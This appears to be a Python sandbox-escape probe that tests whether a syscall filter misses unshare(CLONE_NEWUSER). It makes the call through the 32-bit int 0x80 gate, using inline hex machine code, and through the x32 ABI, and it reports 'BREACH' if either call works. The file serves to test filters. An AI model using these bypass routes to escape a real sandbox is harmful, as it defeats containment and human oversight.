# The same calls by the doors that a filter might forget: 32-bit int 0x80 and x32.
import os
from attack import machine_code, syscall

CLONE_NEWUSER = 0x10000000


def child(what, act):
    print("tried", what, flush=True)
    pid = os.fork()
    if pid == 0:
        result = act()
        if result == 0:
            print("BREACH:", what, flush=True)
        os._exit(0)
    print(what, "ended with", os.waitpid(pid, 0)[1], flush=True)


def by_int80():
    # push rbx; mov ebx, 0x10000000; mov eax, 310 (unshare); int 0x80; pop rbx; ret
    return machine_code("53bb00000010b836010000cd805bc3")()


def by_x32():
    try:
        return syscall(0x40000000 | 272, CLONE_NEWUSER)
    except OSError as error:
        return error.errno


child("unshare by int 0x80", by_int80)
child("unshare by x32", by_x32)
